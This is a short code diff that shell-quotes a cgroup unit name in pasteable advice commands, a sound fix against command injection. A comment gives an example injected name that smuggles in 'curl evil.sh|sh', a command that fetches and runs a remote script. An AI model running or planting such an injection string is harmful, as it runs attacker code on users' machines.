@@ -8,6 +8,7 @@ and when it stopped, with what to check (restarts, OOM kills, its schedule).
 
 from __future__ import annotations
 
+import shlex
 from datetime import datetime, timedelta
 
 from app.models import Cause, History, HistoryCgroup, ProcessReport, Report, Trigger, Verdict
@@ -117,7 +118,9 @@ def _advice(c: HistoryCgroup, start: datetime, end: datetime) -> list[str]:
             "the lead-up chart shows when it faulted; lower the alert's `for:` or use watch mode "
             "(PFI_WATCH_THRESHOLD) to catch it while it runs",
         ]
-    unit = c.cgroup.rsplit("/", 1)[-1]
+    # Quoted for the shell: the name is whoever made the group's (a delegated subtree can hold
+    # "x'; curl evil.sh|sh; '"), and this line is made to be pasted.
+    unit = shlex.quote(c.cgroup.rsplit("/", 1)[-1])
     since = start.strftime("%Y-%m-%d %H:%M:%S")
     until = end.strftime("%Y-%m-%d %H:%M:%S")
     return [
